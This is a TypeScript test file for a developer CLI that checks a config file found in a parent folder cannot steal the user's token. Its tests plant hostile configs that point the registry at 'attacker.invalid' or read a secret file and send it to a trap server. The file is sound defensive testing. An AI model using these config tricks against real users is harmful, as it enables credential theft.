// Red team (#14): a `.ameide-dev/config.json` found by walking up from the cwd was trusted whole. Anyone who
// can write a folder above the cwd (a shared /tmp, a cloned repository) could send the user's token
// (AMEIDE_TOKEN, --token) to a registry of theirs, or have `invoke` read any file as the runtime token and send it.
import { chmod, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { runCli } from "../cli.js";
import { createCapturedDeps, spawnCli } from "../testing/cli-process.js";

describe("a hostile .ameide-dev/config.json in a folder above the cwd", () => {
  let work: string;
  let hook: string;
  let trap: Server;
  let trapUrl: string;
  /** The authorization headers the trap server received. */
  const stolen: string[] = [];
  const env = (extra: Record<string, string> = {}) => ({
    HOME: join(work, "no-home"),
    AMEIDE_CONFIG: "",
    AMEIDE_REGISTRY_URL: "",
    AMEIDE_TOKEN: "",
    AMEIDE_RUNTIME_URL: "",
    AMEIDE_RUNTIME_TOKEN: "",
    ...extra,
  });
  const configFile = () => join(work, ".ameide-dev", "config.json");
  const writeConfig = async (doc: Record<string, unknown>, mode = 0o600) => {
    await writeFile(configFile(), JSON.stringify(doc), { mode });
    await chmod(configFile(), mode);
  };

  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), "ameide-hostile-config-"));
    await mkdir(join(work, ".ameide-dev"));
    hook = join(work, "hooks", "deal-guard");
    const scaffold = createCapturedDeps({ cwd: work, env: env() });
    expect(
      await runCli(
        ["new", "deal-guard", "--kind", "process_hook", "--dir", "hooks/deal-guard"],
        scaffold.deps,
      ),
      scaffold.stderr(),
    ).toBe(0);
    await writeFile(join(hook, "in.json"), "{}");
    trap = createServer((req, res) => {
      stolen.push(String(req.headers.authorization ?? ""));
      res.writeHead(500).end();
    });
    await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
    trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  }, 120_000);

  beforeEach(() => {
    stolen.length = 0;
  });

  afterAll(async () => {
    await new Promise((resolve) => trap?.close(resolve));
    if (work) await rm(work, { recursive: true, force: true });
  });

  const refusal = (stdout: string) =>
    (JSON.parse(stdout) as { error: { code: string; details?: { rule?: string; file?: string } } }).error;

  it("does not send AMEIDE_TOKEN to a registry URL that is not on this machine", async () => {
    await writeConfig({ registry_url: "http://attacker.invalid:8090", tenant: "local" });
    const run = await spawnCli(["status", ".", "--json"], {
      cwd: hook,
      env: env({ AMEIDE_TOKEN: "user-secret" }),
    });
    expect(run.code, run.stderr).toBe(3); // refused by a rule
    expect(refusal(run.stdout)).toMatchObject({
      code: "permission_denied",
      details: { rule: "config_discovery", file: configFile() },
    });
  });

  it("still takes a remote registry URL from a config file named with --config", async () => {
    await writeConfig({ registry_url: trapUrl, token: "named" });
    const run = await spawnCli(["status", ".", "--json", "--config", configFile()], {
      cwd: hook,
      env: env(),
    });
    expect(run.code, run.stderr).toBe(1);
    expect(stolen).toEqual(["Bearer named"]);
  });

  it("does not trust a config file others may write (group or world writable)", async () => {
    await writeConfig({ registry_url: trapUrl, tenant: "local" }, 0o666);
    const run = await spawnCli(["status", ".", "--json"], {
      cwd: hook,
      env: env({ AMEIDE_TOKEN: "user-secret" }),
    });
    expect(refusal(run.stdout)).toMatchObject({
      code: "permission_denied",
      details: { rule: "config_discovery" },
    });
    expect(run.code).toBe(3);
    expect(stolen).toEqual([]);
  });

  it("does not read a runtime_token_file outside the config's folder and send it to the runtime", async () => {
    const secret = join(work, "secret.txt");
    await writeFile(secret, "ssh-private-thing\n", { mode: 0o600 });
    await writeConfig({ runtime_url: trapUrl, runtime_token_file: secret, tenant: "local" });
    const run = await spawnCli(["invoke", "deal-guard", "--input", "in.json", "--json"], {
      cwd: hook,
      env: env(),
    });
    expect(refusal(run.stdout)).toMatchObject({
      code: "permission_denied",
      details: { rule: "config_discovery" },
    });
    expect(run.code).toBe(3);
    expect(stolen).toEqual([]);
  });

  it("still uses what dev writes: a loopback URL, the token beside it, a runtime token file in its folder", async () => {
    const tokenFile = join(work, ".ameide-dev", "runtime-token");
    await writeFile(tokenFile, "rt-token\n", { mode: 0o600 });
    await writeConfig({
      registry_url: trapUrl,
      token: "dev-token",
      runtime_url: trapUrl,
      runtime_token_file: tokenFile,
    });
    const status = await spawnCli(["status", ".", "--json"], { cwd: hook, env: env() });
    expect(status.code, status.stderr).toBe(1);
    const invoke = await spawnCli(["invoke", "deal-guard", "--input", "in.json", "--json"], {
      cwd: hook,
      env: env(),
    });
    expect(invoke.code, invoke.stderr).toBe(1);
    expect(stolen).toEqual(["Bearer dev-token", "Bearer rt-token"]);
  });
});
